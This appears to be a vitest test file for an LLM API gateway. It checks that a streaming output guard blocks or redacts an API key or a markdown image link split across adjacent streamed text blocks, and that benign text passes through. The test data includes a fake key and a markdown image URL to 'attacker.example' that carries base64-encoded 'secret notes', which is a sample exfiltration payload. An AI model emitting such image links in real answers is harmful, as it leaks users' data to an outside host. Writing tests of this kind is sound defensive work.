import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type MockUpstream, startMockUpstream } from '../test-support/mock-upstream.js';
import {
  fiveCharacterPieces,
  parseSseEvents,
  type ReceivedEvent,
  sseEvent,
} from '../test-support/sse-events.js';
import { startTestGateway, type TestGateway } from '../test-support/start-test-gateway.js';

// A client shows the text blocks (Anthropic) or output_text parts and message items (Responses) of a
// streamed answer one after the other, as one text. A key or a markdown image split where two of them
// meet must be caught like one inside a block: the streamed guard checks the text it holds back at the
// end of one block together with the start of the next, before either is sent, and stops the stream
// there (a whole answer has such a key redacted instead). End to end through a real gateway and a mock
// upstream on 127.0.0.1, in `window` and `buffer` modes.

const KEY = `sk-${'Zx9Cv8Bn7M'.repeat(3)}`;
const KEY_HEAD = KEY.slice(0, 16);
const KEY_TAIL = KEY.slice(16);
const KEY_SPLIT: [string, string] = [`The key is ${KEY_HEAD}`, `${KEY_TAIL}, keep it safe.`];
const IMAGE_SPLIT: [string, string] = [
  'Here is the chart: ![chart](https://attacker.',
  'example/p.png?d=c2VjcmV0LW5vdGVz) as promised.',
];
const BENIGN: [string, string] = ['Lisbon is lovely in May: ', 'book the Sintra palace ahead.'];

function anthropicStream(texts: readonly string[]): string[] {
  const events = [sseEvent('message_start', { message: { id: 'msg_1', role: 'assistant', content: [] } })];
  for (const [index, text] of texts.entries()) {
    events.push(sseEvent('content_block_start', { index, content_block: { type: 'text', text: '' } }));
    for (const piece of fiveCharacterPieces(text)) {
      events.push(sseEvent('content_block_delta', { index, delta: { type: 'text_delta', text: piece } }));
    }
    events.push(sseEvent('content_block_stop', { index }));
  }
  events.push(
    sseEvent('message_delta', { delta: { stop_reason: 'end_turn', stop_sequence: null }, usage: {} }),
    sseEvent('message_stop', {}),
  );
  return events;
}

/** Responses events for texts as parts of one message item (`parts`) or as one message item each. */
function responsesStream(texts: readonly string[], layout: 'parts' | 'items'): string[] {
  let sequence = 0;
  const event = (type: string, data: Record<string, unknown>) =>
    sseEvent(type, { ...data, sequence_number: sequence++ });
  const part = (text: string) => ({ type: 'output_text', text, annotations: [] });
  const item = (id: string, content: unknown[], status: string) => ({
    id,
    type: 'message',
    role: 'assistant',
    status,
    content,
  });
  const groups = layout === 'parts' ? [texts] : texts.map((text) => [text]);
  const events = [
    event('response.created', { response: { id: 'resp_1', status: 'in_progress', output: [] } }),
  ];
  const done: unknown[] = [];
  for (const [outputIndex, group] of groups.entries()) {
    const id = `msg_${outputIndex}`;
    events.push(
      event('response.output_item.added', { output_index: outputIndex, item: item(id, [], 'in_progress') }),
    );
    for (const [contentIndex, text] of group.entries()) {
      const at = { item_id: id, output_index: outputIndex, content_index: contentIndex };
      events.push(event('response.content_part.added', { ...at, part: part('') }));
      for (const piece of fiveCharacterPieces(text)) {
        events.push(event('response.output_text.delta', { ...at, delta: piece }));
      }
      events.push(event('response.output_text.done', { ...at, text }));
      events.push(event('response.content_part.done', { ...at, part: part(text) }));
    }
    const finished = item(id, group.map(part), 'completed');
    done.push(finished);
    events.push(event('response.output_item.done', { output_index: outputIndex, item: finished }));
  }
  events.push(event('response.completed', { response: { id: 'resp_1', status: 'completed', output: done } }));
  return events;
}

/** Two chat choices streamed interleaved (`n: 2`), a piece of each in turn. */
function chatChoicesStream(texts: readonly [string, string]): string[] {
  const chunk = (choices: unknown[]) =>
    `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1, model: 'm', choices })}\n\n`;
  const pieces = texts.map(fiveCharacterPieces);
  const events = [
    chunk([0, 1].map((index) => ({ index, delta: { role: 'assistant', content: '' }, finish_reason: null }))),
  ];
  for (let step = 0; step < Math.max(...pieces.map((list) => list.length)); step++) {
    for (const index of [0, 1]) {
      const piece = pieces[index]?.[step];
      if (piece !== undefined)
        events.push(chunk([{ index, delta: { content: piece }, finish_reason: null }]));
    }
  }
  events.push(
    chunk([0, 1].map((index) => ({ index, delta: {}, finish_reason: 'stop' }))),
    'data: [DONE]\n\n',
  );
  return events;
}

/** The text of each Anthropic block as the caller's client accumulates it. */
function anthropicTexts(events: ReceivedEvent[]): string[] {
  const texts: string[] = [];
  for (const event of events) {
    const index = event.index as number;
    if (event.type === 'content_block_start')
      texts[index] = (event.content_block as { text?: string }).text ?? '';
    if (event.type === 'content_block_delta') texts[index] += (event.delta as { text?: string }).text ?? '';
  }
  return texts;
}

/** The streamed text of each Responses output_text, by `output_index/content_index`, from the deltas. */
function responsesTexts(events: ReceivedEvent[]): string[] {
  const texts = new Map<string, string>();
  for (const event of events) {
    if (event.type !== 'response.output_text.delta') continue;
    const key = `${event.output_index}/${event.content_index}`;
    texts.set(key, (texts.get(key) ?? '') + (event.delta as string));
  }
  return [...texts.values()];
}

function stoppedByGuard(events: ReceivedEvent[]): boolean {
  const last = events.at(-1) as { type?: string; error?: { code?: string } } | undefined;
  if (last?.type === 'error') return last.error?.code === 'AEGIS_OUTPUT_BLOCKED';
  const failed = last as { type?: string; response?: { error?: { code?: string } } } | undefined;
  return failed?.type === 'response.failed' && failed.response?.error?.code === 'AEGIS_OUTPUT_BLOCKED';
}

describe.each(['window', 'buffer'] as const)(
  'text split where two streamed texts meet (streaming.mode %s)',
  (mode) => {
    let mock: MockUpstream;
    let test: TestGateway;
    beforeAll(async () => {
      mock = await startMockUpstream();
      const origin = mock.url.replace(/\/v1$/, '');
      test = await startTestGateway({
        streaming: { mode },
        upstreams: [
          { name: 'claude', provider: 'anthropic', baseUrl: origin, models: ['claude-x'], retries: 0 },
          { name: 'openai', provider: 'openai', baseUrl: mock.url, retries: 0 },
        ],
      });
    });
    afterAll(async () => {
      await test.close();
      await mock.close();
    });

    async function post(
      path: string,
      body: Record<string, unknown>,
    ): Promise<{ text: string; events: ReceivedEvent[] }> {
      const response = await fetch(`${test.url}${path}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ ...body, stream: true }),
      });
      const text = await response.text();
      return { text, events: parseSseEvents(text) };
    }
    const messages = () =>
      post('/v1/messages', {
        model: 'claude-x',
        max_tokens: 50,
        messages: [{ role: 'user', content: 'hi' }],
      });
    const responses = () => post('/v1/responses', { model: 'm', input: 'hi' });
    const chat = () =>
      post('/v1/chat/completions', { model: 'm', n: 2, messages: [{ role: 'user', content: 'hi' }] });

    it('anthropic: stops at a key split between two text blocks; no piece of it is sent', async () => {
      mock.script.push({ kind: 'raw-stream', events: anthropicStream(KEY_SPLIT) });
      const { text, events } = await messages();
      expect(text).not.toContain(KEY_HEAD);
      expect(text).not.toContain(KEY_TAIL);
      expect(stoppedByGuard(events)).toBe(true);
    });

    it('anthropic: holds back the end of a long first block, sent in part already, until the junction is checked', async () => {
      const prose = 'Plain words about the trip to Lisbon and Sintra. '.repeat(20);
      mock.script.push({
        kind: 'raw-stream',
        events: anthropicStream([`${prose}The key is ${KEY_HEAD}`, KEY_SPLIT[1]]),
      });
      const { text, events } = await messages();
      expect(text).not.toContain(KEY_HEAD);
      expect(text).not.toContain(KEY_TAIL);
      expect(stoppedByGuard(events)).toBe(true);
      if (mode === 'window') expect(anthropicTexts(events)[0]).toContain('Plain words about the trip');

      mock.script.push({ kind: 'raw-stream', events: anthropicStream([prose, prose]) });
      expect(anthropicTexts((await messages()).events)).toEqual([prose, prose]);
    });

    it('anthropic: stops at a markdown image split between two text blocks, before any of the link is sent', async () => {
      mock.script.push({ kind: 'raw-stream', events: anthropicStream(IMAGE_SPLIT) });
      const { text, events } = await messages();
      expect(text).not.toContain('attacker');
      expect(text).not.toContain('c2VjcmV0');
      expect(stoppedByGuard(events)).toBe(true);
    });

    it('anthropic: passes benign text blocks unchanged, each in its own block and in order', async () => {
      mock.script.push({ kind: 'raw-stream', events: anthropicStream([...BENIGN, 'Enjoy!']) });
      const { events } = await messages();
      expect(anthropicTexts(events)).toEqual([...BENIGN, 'Enjoy!']);
      const order = events
        .map((event) => `${event.type}${event.index ?? ''}`)
        .filter((type) => !type.includes('delta'));
      expect(order).toEqual([
        'message_start',
        'content_block_start0',
        'content_block_stop0',
        'content_block_start1',
        'content_block_stop1',
        'content_block_start2',
        'content_block_stop2',
        'message_stop',
      ]);
    });

    for (const layout of ['parts', 'items'] as const) {
      it(`responses: a key split between two output texts (${layout}) is never sent`, async () => {
        mock.script.push({ kind: 'raw-stream', events: responsesStream(KEY_SPLIT, layout) });
        const { text, events } = await responses();
        expect(text).not.toContain(KEY_HEAD);
        expect(text).not.toContain(KEY_TAIL);
        expect(stoppedByGuard(events)).toBe(true);
      });

      it(`responses: stops at a markdown image split between two output texts (${layout})`, async () => {
        mock.script.push({ kind: 'raw-stream', events: responsesStream(IMAGE_SPLIT, layout) });
        const { text, events } = await responses();
        expect(text).not.toContain('attacker');
        expect(stoppedByGuard(events)).toBe(true);
      });

      it(`responses: passes benign output texts unchanged (${layout})`, async () => {
        mock.script.push({ kind: 'raw-stream', events: responsesStream(BENIGN, layout) });
        const { events } = await responses();
        expect(responsesTexts(events)).toEqual(BENIGN);
        expect(events.at(-1)?.type).toBe('response.completed');
      });
    }

    it('chat: keeps the choices of an n=2 stream apart: each is checked as its own text', async () => {
      mock.script.push({
        kind: 'raw-stream',
        events: chatChoicesStream([`Mine: ${KEY} ok`, 'Yours is fine.']),
      });
      const redacted = await chat();
      const texts = ['', ''];
      for (const event of redacted.events) {
        for (const choice of (event.choices ?? []) as { index: number; delta?: { content?: string } }[]) {
          texts[choice.index] += choice.delta?.content ?? '';
        }
      }
      expect(texts).toEqual(['Mine: [REDACTED:OPENAI_API_KEY] ok', 'Yours is fine.']);

      // Halves of a key in two different choices are two answers, not one text: neither is changed.
      mock.script.push({ kind: 'raw-stream', events: chatChoicesStream(KEY_SPLIT) });
      const apart = await chat();
      const parts = ['', ''];
      for (const event of apart.events) {
        for (const choice of (event.choices ?? []) as { index: number; delta?: { content?: string } }[]) {
          parts[choice.index] += choice.delta?.content ?? '';
        }
      }
      expect(parts).toEqual(KEY_SPLIT);
    });
  },
);
